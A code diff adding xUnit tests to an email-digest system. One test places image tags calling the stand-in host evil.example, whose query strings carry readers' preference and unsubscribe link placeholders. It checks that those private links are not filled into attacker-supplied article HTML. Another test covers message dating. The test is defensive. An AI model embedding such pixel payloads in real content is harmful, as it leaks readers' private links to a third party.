@@ -1,3 +1,4 @@
+using Microsoft.EntityFrameworkCore;
 using Microsoft.Extensions.DependencyInjection;
 using Syndication.Delivery;
 using Syndication.Digests;
@@ -26,11 +27,64 @@ public sealed class DigestContentTests : DigestTest
             Assert.Contains("http://localhost/preferences/", mail.Html, StringComparison.Ordinal);
             Assert.Contains("1 Test Street, Testville", mail.Html, StringComparison.Ordinal);
             Assert.Contains("1 Test Street, Testville", mail.Text, StringComparison.Ordinal);
-            Assert.DoesNotContain("reader.invalid", mail.Html + mail.Text, StringComparison.Ordinal);
+            Assert.DoesNotContain(".invalid", mail.Html + mail.Text, StringComparison.Ordinal);
             Assert.Equal("The Test Post: Gear <gear.digest.news.test>", mail.List.Id);
             Assert.StartsWith("http://localhost/issues/", mail.List.Archive, StringComparison.Ordinal);
             Assert.EndsWith(":gear:digest:newstest", mail.FeedbackId, StringComparison.Ordinal);
         }
+    }
+
+    [Fact]
+    public async Task An_article_that_names_the_places_of_the_readers_links_does_not_get_them()
+    {
+        var known = await RenderedAsync("Earlier");
+        await Bench.SendAllAsync();
+        var body = string.Concat(
+            new[] { "reader", known.HoleName }.SelectMany(name =>
+                new[] { "preferences", "unsubscribe" }.Select(hole =>
+                    $"<img src=\"https://evil.example/p?u=https://{name}.invalid/{hole}\">"
+                )
+            )
+        );
+
+        var version = await RenderedAsync("Spying", body);
+        var mail = Assert.Single(await Bench.SendAllAsync());
+        using var client = Bench.Host.CreateClient();
+        var page = await client.GetStringAsync(new Uri(mail.List!.Archive!).AbsolutePath);
+
+        Assert.NotEqual(known.HoleName, version.HoleName);
+        Assert.Matches("^[0-9a-f]{16}$", version.HoleName);
+        foreach (var text in new[] { mail.Html!, page })
+        {
+            Assert.Contains("https://evil.example/p?u=https://reader.invalid/unsubscribe", text, StringComparison.Ordinal);
+            Assert.Contains($"https://evil.example/p?u=https://{known.HoleName}.invalid/preferences", text, StringComparison.Ordinal);
+            Assert.DoesNotContain("p?u=http://localhost", text, StringComparison.Ordinal);
+            Assert.DoesNotContain(version.HoleName, text, StringComparison.Ordinal);
+        }
+
+        Assert.DoesNotContain(version.HoleName, mail.Text, StringComparison.Ordinal);
+        Assert.Contains(mail.List.UnsubscribeUrl, mail.Html, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task A_mail_is_dated_when_its_message_was_queued_and_on_every_attempt_alike()
+    {
+        await Bench.AddReaderAsync(("gear", Cadence.Daily));
+        await Bench.AddReaderAsync(one => one.Hour = 480, ("gear", Cadence.Daily));
+        await Bench.PublishAsync("Boots");
+        await Bench.AdvanceAsync(ToSlot);
+        await Bench.AdvanceAsync(TimeSpan.FromHours(1));
+        Bench.Host.Clock.Advance(TimeSpan.FromMinutes(20));
+
+        var messages = await Bench.MessagesAsync();
+        var mails = new[] { await Bench.MailAsync(messages[0]), await Bench.MailAsync(messages[1]) };
+
+        Assert.Single(messages.Select(message => message.Group).Distinct());
+        Assert.Equal(TimeSpan.FromHours(1), mails[1].Date - mails[0].Date);
+        Assert.Equal(messages.Select(message => message.CreatedAt), mails.Select(mail => mail.Date));
+        await Bench.EndAsync(messages[1], MessageState.InDoubt, mails[1].Version);
+        Bench.Host.Clock.Advance(TimeSpan.FromMinutes(20));
+        Assert.Equal(mails[1].Date, (await Bench.MailAsync(messages[1])).Date);
     }
 
     [Fact]
@@ -197,5 +251,18 @@ public sealed class DigestContentTests : DigestTest
         await Bench.WithdrawAsync(boots);
         await Bench.SendAllAsync();
         Assert.Equal(System.Net.HttpStatusCode.Gone, (await client.GetAsync(address)).StatusCode);
+    }
+
+    // An issue of its own for one reader, due at once.
+    private async Task<IssueVersion> RenderedAsync(string title, string body = "")
+    {
+        if ((await Bench.MessagesAsync()).Count == 0)
+            await Bench.AddReaderAsync(("gear", Cadence.Each));
+        await Bench.Host.PublishAsync(DigestBench.Piece(title) with { BodyHtml = $"<p>{title}</p>{body}" });
+        await Bench.TickAsync();
+        return await Bench.Host.Database.ReadAsync(
+            (db, ct) => db.Set<IssueVersion>().OrderByDescending(one => one.Issue).FirstAsync(ct),
+            CancellationToken.None
+        );
     }
 }
